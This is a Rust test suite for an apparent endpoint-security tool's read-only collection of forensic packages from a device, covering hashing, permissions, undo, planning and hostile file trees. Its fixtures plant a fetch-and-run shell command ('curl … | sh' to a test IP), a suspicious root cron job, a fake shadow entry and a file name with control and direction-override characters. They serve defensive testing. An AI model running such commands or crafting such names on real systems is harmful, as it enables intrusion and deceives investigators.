//! Collecting what a device can tell about itself (M123, spec S10).
use crate::staged::{Home, OTHER, ask, write};
use assize_domain::{action::ActionStatus, group::AutomationLevel, id::ActionId, order::Conflict, remedy::ActionType};
use assize_engine::{
    door::{PlanRun, RunAction, ShowAction, UndoActions},
    view::Action,
};
use serde_json::Value;
use sha2::{Digest, Sha256};
use std::{
    collections::BTreeMap,
    fs,
    io::Read,
    os::unix::fs::{MetadataExt, PermissionsExt},
    path::{Path, PathBuf},
};

/// What a person asks for in the window.
pub(crate) fn wish(kind: ActionType, device: &assize_domain::id::DeviceId) -> RunAction {
    RunAction {
        kind,
        device: device.clone(),
        file: None,
        sha256: None,
        pid: None,
        service: None,
        evidence: None,
        scope: None,
        allow: Vec::new(),
        for_seconds: None,
        comment: "We want to know.".into(),
        command_line: false,
    }
}

fn sha256(bytes: &[u8]) -> String {
    Sha256::digest(bytes).iter().map(|b| format!("{b:02x}")).collect()
}

/// An unpacked package.
struct Unpacked {
    members: BTreeMap<String, Vec<u8>>,
    manifest: Value,
}

impl Unpacked {
    /// Unpacked by the ordinary libraries, as anybody would, and every member compared with the manifest.
    fn of(path: &Path) -> Self {
        let file = fs::File::open(path).unwrap();
        let mut tar = tar::Archive::new(zstd::Decoder::new(file).unwrap());
        let mut members = BTreeMap::new();
        for entry in tar.entries().unwrap() {
            let mut entry = entry.unwrap();
            assert_eq!(entry.header().entry_type(), tar::EntryType::Regular, "nothing but ordinary files");
            let name = entry.path().unwrap().to_str().unwrap().to_owned();
            assert!(!name.starts_with('/') && !name.split('/').any(|c| c == ".."), "{name}");
            let mut body = Vec::new();
            entry.read_to_end(&mut body).unwrap();
            assert_eq!(members.insert(name.clone(), body), None, "{name} is there once");
        }
        let manifest: Value = serde_json::from_slice(&members.remove("manifest.json").unwrap()).unwrap();
        let listed = manifest["members"].as_array().unwrap();
        assert_eq!(listed.len(), members.len(), "every member is listed, and nothing else");
        for row in listed {
            let body = &members[row["name"].as_str().unwrap()];
            assert_eq!(row["sha256"].as_str().unwrap(), sha256(body), "{row}");
            assert_eq!(row["bytes"].as_u64().unwrap(), body.len() as u64);
        }
        Self { members, manifest }
    }

    fn text(&self, name: &str) -> &str {
        let names: Vec<&String> = self.members.keys().collect();
        std::str::from_utf8(self.members.get(name).unwrap_or_else(|| panic!("no {name} among {names:?}"))).unwrap()
    }

    fn why(&self, what: &str) -> &str {
        let skipped = self.manifest["skipped"].as_array().unwrap();
        let row = skipped.iter().find(|s| s["what"] == what);
        row.unwrap_or_else(|| panic!("{what} was not left out: {skipped:?}"))["why"].as_str().unwrap()
    }
}

fn collected(home: &Home, device: &crate::staged::Staged<'_>) -> Action {
    let action = ask!(home, wish(ActionType::CollectInvestigationPackage, &device.id));
    assert_eq!(action.status, ActionStatus::Queued, "it shows at once");
    home.engine.settle_actions(std::slice::from_ref(&action.id)).unwrap().remove(0)
}

fn path_of(home: &Home, id: &ActionId) -> PathBuf {
    PathBuf::from(&home.action(id).after[0])
}

/// M123: `assizectl` prints where it lies; every hash in the manifest holds.
#[test]
fn a_package_holds_what_the_device_tells_and_every_hash_holds() {
    let home = Home::at(AutomationLevel::SemiAll);
    let device = home.device("shop");
    device.plant("/home/ann/.bash_history", "curl http://198.51.100.7/x | sh\n");
    device.plant("/etc/cron.d/parcel", "*/5 * * * * root /tmp/parcel\n");
    device.plant("/etc/shadow", "ann:$6$salt$secret:19700::::::\n");
    device.plant("/tmp/parcel", "hello");
    device.plant("/var/log/auth.log", "Accepted password for ann\n");
    let before = tree(&device.real("/"));

    let ctl = home.ctl();
    let answer = ctl.ask(&[
        "action",
        "run",
        "collect_investigation_package",
        "--device",
        "shop",
        "--comment",
        "We want to know.",
    ]);
    assert_eq!(answer["status"], "completed", "{answer}");
    assert_eq!(answer["source"], "command_line");
    let path = Path::new(answer["outcome"].as_str().expect("it says where the package lies"));
    assert_eq!(tree(&device.real("/")), before, "nothing was changed on the device");

    let facts = fs::metadata(path).unwrap();
    assert_eq!(facts.permissions().mode() & 0o777, 0o600, "for its owner alone");
    assert!(path.starts_with(home.data().join("packages")));
    let package = Unpacked::of(path);
    assert_eq!(package.manifest["action"], answer["id"]);
    assert_eq!(package.manifest["running"], false);
    assert!(package.text("files/home/ann/%2Ebash_history").contains("198.51.100.7"));
    assert!(package.text("tasks/etc/cron.d/parcel").contains("/tmp/parcel"));
    assert!(package.text("files/temporary.tsv").contains(&sha256(b"hello")));
    assert!(package.text("logs/var/log/auth.log").contains("Accepted"));
    assert!(package.text("users/etc/passwd").contains("ann"));
    assert!(package.text("summary.txt").contains("hashes of indicators"));
    assert!(!package.members.values().any(|b| String::from_utf8_lossy(b).contains("secret")), "no hash of a password");
    for live in ["network/running", "services/running", "kernel/modules", "files/open.tsv"] {
        assert!(package.why(live).contains("not a running system"), "{live}");
    }

    let detail = home.action(&ActionId(answer["id"].as_str().unwrap().to_owned()));
    assert_eq!(detail.after[0], path.to_str().unwrap());
    let archive = sha256(&fs::read(path).unwrap());
    assert!(detail.after[1].contains(&archive), "the receipt names the hash of the archive: {:?}", detail.after);
    assert!(detail.steps.iter().any(|s| s.contains("read back")), "{:?}", detail.steps);
}

/// Every path below, with its bytes and facts.
fn tree(top: &Path) -> BTreeMap<PathBuf, (u32, u64, i64, Vec<u8>)> {
    let mut all = BTreeMap::new();
    let mut folders = vec![top.to_owned()];
    while let Some(folder) = folders.pop() {
        for entry in fs::read_dir(folder).unwrap() {
            let path = entry.unwrap().path();
            let facts = path.symlink_metadata().unwrap();
            let bytes = if facts.is_file() && facts.len() < 1 << 20 { fs::read(&path).unwrap() } else { Vec::new() };
            if facts.is_dir() {
                folders.push(path.clone());
            }
            all.insert(path, (facts.mode(), facts.ino(), facts.mtime_nsec(), bytes));
        }
    }
    all
}

/// M123, M75: it changed nothing, so there is nothing to undo, and it says so.
#[test]
fn a_package_is_never_undone_and_says_why() {
    let home = Home::at(AutomationLevel::SemiAll);
    let device = home.device("shop");
    let done = collected(&home, &device);
    assert_eq!(done.status, ActionStatus::Completed, "{:?}", done.result);
    assert!(!done.undo.possible);
    assert!(done.undo.reason.as_ref().unwrap().contains("changed nothing"));
    let request = UndoActions {
        ids: vec![done.id.clone()],
        reason: None,
        conflict: Conflict::Stop,
        instances: false,
        allow_days: None,
    };
    assert_eq!(ask!(home, request).refused[0].fault.code, "cannot_undo");
}

/// M123: pipes, giants, links and closed files are told, and nobody waits for them.
#[test]
fn a_hostile_tree_neither_holds_up_nor_leads_astray() {
    let home = Home::at(AutomationLevel::SemiAll);
    let device = home.device("shop");
    device.plant(OTHER, "x");
    for path in ["/home/ann/.bash_history", "/tmp/pipe"] {
        fs::create_dir_all(device.real(path).parent().unwrap()).unwrap();
        let made = std::process::Command::new("mkfifo").arg(device.real(path)).status().unwrap();
        assert!(made.success());
    }
    for path in ["/var/log/syslog", "/tmp/giant", "/home/ann/.zsh_history"] {
        device.plant(path, "");
        fs::File::options().write(true).open(device.real(path)).unwrap().set_len(10 << 30).unwrap();
    }
    device.plant("/etc/sudoers", "root ALL=(ALL) ALL\n");
    fs::set_permissions(device.real("/etc/sudoers"), fs::Permissions::from_mode(0o000)).unwrap();
    let outside = home.data().parent().unwrap().join("outside");
    write(&outside, "not on the device");
    std::os::unix::fs::symlink(&outside, device.real("/home/ann/.profile")).unwrap();
    std::os::unix::fs::symlink(&outside, device.real("/etc/hosts")).unwrap();
    device.plant("/etc/cron.d/..\u{202E}\x1b[2J\nx", "5 4 * * * root /usr/bin/true\n");

    let done = collected(&home, &device);
    assert_eq!(done.status, ActionStatus::Completed, "{:?}", done.result);
    let path = path_of(&home, &done.id);
    let package = Unpacked::of(&path);
    assert!(package.why("/home/ann/.bash_history").contains("a pipe"));
    assert!(package.why("/home/ann/.profile").contains("a link"));
    assert!(!package.members.values().any(|b| b == b"not on the device"), "no link leads out");
    let rows = package.manifest["members"].as_array().unwrap();
    let note = |name: &str| rows.iter().find(|r| r["name"] == name).unwrap()["note"].as_str().unwrap().to_owned();
    assert!(note("logs/var/log/syslog").contains("of 10737418240 bytes"));
    assert!(note("files/home/ann/%2Ezsh_history").contains("of 10737418240 bytes"));
    assert!(package.text("files/temporary.tsv").contains("/tmp/giant\tfile\t10737418240\t"));
    assert!(fs::metadata(&path).unwrap().len() < 8 << 20, "zeros take no room");
    let root = fs::metadata("/proc/self").unwrap().uid() == 0;
    if !root {
        assert!(package.why("/etc/sudoers").contains("may not read"));
    }
    let odd = rows.iter().find(|r| r["source"].as_str().unwrap().contains("u{202e}")).expect("it is collected");
    assert!(odd["name"].as_str().unwrap().is_ascii());
}

/// M123: what would be collected is shown before, and a device that is away gets its order when it is back.
#[test]
fn a_package_is_planned_and_waits_for_its_device() {
    let home = Home::at(AutomationLevel::SemiAll);
    let device = home.device("shop");
    let plan = ask!(home, PlanRun { action: wish(ActionType::CollectInvestigationPackage, &device.id) });
    assert!(plan.steps.len() > 10 && plan.obstacles.is_empty(), "{plan:?}");
    assert!(plan.steps.iter().any(|s| s.target.contains("shell history")));
    assert!(!home.data().join("packages").exists(), "a plan writes nothing");

    let away = device.real("").with_extension("away");
    fs::rename(device.real(""), &away).unwrap();
    let action = ask!(home, wish(ActionType::CollectInvestigationPackage, &device.id));
    let waits = home.engine.settle_actions(std::slice::from_ref(&action.id)).unwrap().remove(0);
    assert_eq!(waits.status, ActionStatus::WaitingForDevice, "{:?}", waits.result);
    fs::rename(&away, device.real("")).unwrap();
    // The waiting ends when somebody drives again.
    home.engine.drive_what_is_due().unwrap();
    let done = home.engine.settle_actions(std::slice::from_ref(&action.id)).unwrap().remove(0);
    assert_eq!(done.status, ActionStatus::Completed, "{:?}", done.result);
    let detail = ask!(home, ShowAction { id: action.id });
    assert!(Path::new(&detail.after[0]).is_file());
}

/// M123: nothing half written stays behind when there is no room for it.
#[test]
fn a_package_that_cannot_be_written_says_so_and_leaves_nothing() {
    let home = Home::at(AutomationLevel::SemiAll);
    let device = home.device("shop");
    write(&home.data().join("packages"), "a file stands where the folder should be");
    let failed = collected(&home, &device);
    assert_eq!(failed.status, ActionStatus::Failed);
    let fault = failed.result.unwrap();
    assert_eq!(fault.code, "package_not_written");
    assert!(fault.hint.contains("Nothing was changed"), "{fault:?}");
}
